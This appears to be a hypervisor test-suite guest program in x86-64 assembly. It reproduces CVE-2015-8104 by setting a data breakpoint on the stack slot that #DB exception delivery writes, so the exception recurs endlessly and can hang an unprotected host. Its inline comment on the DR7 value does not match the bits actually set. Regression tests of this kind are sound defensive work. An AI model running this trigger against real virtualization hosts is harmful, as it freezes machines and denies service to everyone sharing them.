/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * A data breakpoint on the stack slot that the delivery of #DB writes: on real processors delivery
 * raises #DB again, without end (CVE-2015-8104).
 */
#include "guest.inc"
#include "tests/hostile/gate.inc"
	GATE 1, handler
	lidt idt_pointer
	lea -8(%rsp), %rax
	and $-16, %rax
	mov %rax, %rsp
	sub $8, %rax	/* where SS goes */
	mov %rax, %dr0
	mov $0xf0703, %eax	/* DR0: eight bytes, written, exact */
	mov %rax, %dr7
1:	push %rax
	pop %rax
	jmp 1b
handler:
	iretq
	.section .data
	.p2align 3
idt:	.fill 16 * 32, 1, 0
idt_pointer:
	.word 16 * 32 - 1
	.quad idt
